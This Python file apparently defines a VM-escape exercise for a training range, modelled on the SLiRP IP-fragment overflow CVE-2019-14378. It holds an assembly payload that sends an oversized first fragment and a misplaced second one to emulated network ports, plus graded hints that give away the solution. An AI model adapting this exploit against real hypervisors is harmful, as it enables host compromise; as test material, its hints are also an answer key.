"""Fragments that a network stack in the process of the VMM puts together in the wrong place."""

from vmwidgets.model.range.attack import Attack, Placement
from vmwidgets.model.words import said

FRAGMENTS = Attack(
    id="fragments",
    title=said("IP fragments put together in the wrong place"),
    code="""
    mov rsi, {page_bytes}
    mov rbx, 0x4141414141414141
    mov rcx, 170
fill:
    mov [rsi], rbx
    add rsi, 8
    dec rcx
    jnz fill
    mov rdx, {port_network}
    mov rax, {page_bytes}
    out dx, eax                 ; port 0: address
    inc rdx
    mov rax, {network_bytes}
    inc rax
    out dx, eax                 ; port 1: length, one byte more than a buffer has
    inc rdx
    mov rax, 1
    out dx, eax                 ; port 2: more follow
    dec rdx
    mov rax, {network_distance}
    add rax, 8
    out dx, eax
    inc rdx
    xor rax, rax
    out dx, eax                 ; the last one
""",
    goal="layer_taken",
    placement=Placement(emulated=True),
    family="V2",
    number=2,
    like="CVE-2019-14378 (SLiRP)",
    hints=(
        said("Who puts your packets together, and in whose memory?"),
        said("A first fragment that does not fit into a buffer is kept elsewhere. Where does the second one go?"),
        said("Send network_bytes + 1 bytes with more to follow, then network_distance + 8 as the last ones."),
    ),
)
"""Sends a first fragment that is larger than a buffer, and a second one."""
